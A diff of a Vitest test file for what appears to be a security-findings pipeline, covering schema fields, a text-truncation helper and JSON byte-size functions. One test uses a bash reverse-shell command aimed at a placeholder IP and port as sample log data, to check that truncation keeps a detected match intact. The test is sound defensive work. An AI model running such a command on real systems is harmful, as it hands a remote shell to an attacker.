@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { findingId } from '../../src/findings/finding-id.js';
-import { boundRawRecord } from '../../src/findings/raw-record.js';
+import { cutAround } from '../../src/findings/bound/cut-text.js';
+import { jsonBytes, jsonTextBytes } from '../../src/findings/bound/json-size.js';
 import { FINDING_SCHEMA } from '../../src/findings/schema.js';
 
 describe('finding schema', () => {
@@ -9,6 +10,8 @@ describe('finding schema', () => {
     for (const [name, type] of Object.entries({
       TimeGenerated: 'datetime',
       DetectedAt: 'datetime',
+      EventTime: 'datetime',
+      EventTimeSource: 'string',
       FindingId: 'string',
       RuleId: 'string',
       RuleTitle: 'string',
@@ -33,6 +36,7 @@ describe('finding schema', () => {
       Enrichment: 'dynamic',
       RawRecord: 'dynamic',
       RawRecordTruncated: 'boolean',
+      Truncated: 'dynamic',
     })) {
       expect(byName.get(name), name).toBe(type);
     }
@@ -55,14 +59,33 @@ describe('findingId', () => {
   });
 });
 
-describe('boundRawRecord', () => {
-  it('keeps small records whole and cuts large ones on a character boundary', () => {
-    expect(boundRawRecord({ a: 1 }, 100)).toEqual({ value: { a: 1 }, truncated: false });
-    const big = { text: '€'.repeat(100) };
-    const cut = boundRawRecord(big, 50);
-    expect(cut.truncated).toBe(true);
-    expect(typeof cut.value).toBe('string');
-    expect(Buffer.byteLength(cut.value as string)).toBeLessThanOrEqual(50);
-    expect(cut.value as string).not.toContain('\uFFFD');
+describe('cutAround', () => {
+  it('keeps short text whole and cuts long text on a character boundary, saying how much', () => {
+    expect(cutAround('short', [], 100)).toBe('short');
+    const cut = cutAround('€'.repeat(100), [], 80);
+    expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(80);
+    expect(cut).not.toContain('\uFFFD');
+    expect(cut).toMatch(/^€+…\[\d+ bytes cut\]…$/);
+    expect(cut.match(/€/g)?.length ?? 0).toBe(100 - Number(/(\d+) bytes/.exec(cut)?.[1]) / 3);
+  });
+
+  it('keeps the match in the middle of the padding, with the bytes cut on each side', () => {
+    const text = `${'A'.repeat(812_345)}bash -i >& /dev/tcp/203.0.113.7/4444 0>&1${'B'.repeat(1000)}`;
+    const start = text.indexOf('bash');
+    const cut = cutAround(text, [[start, start + 36]], 1024);
+    expect(cut).toContain('bash -i >& /dev/tcp/203.0.113.7/4444');
+    expect(cut).toMatch(/^…\[81\d,\d{3} bytes cut\]…A+bash/);
+    expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(1024);
+  });
+});
+
+describe('JSON sizes, walked without serialising', () => {
+  it('agree with JSON.stringify, once and twice, on quotes, escapes, controls and surrogates', () => {
+    const value = {
+      'k"\\': ['a"b\\c', 'é€𝄞', '\n\t\u0001', '\ud834', 1.5, true, null],
+      nested: { s: '{"log":"x\\"y"}' },
+    };
+    expect(jsonBytes(value)).toBe(Buffer.byteLength(JSON.stringify(value)));
+    expect(jsonTextBytes(value)).toBe(Buffer.byteLength(JSON.stringify(JSON.stringify(value))));
   });
 });
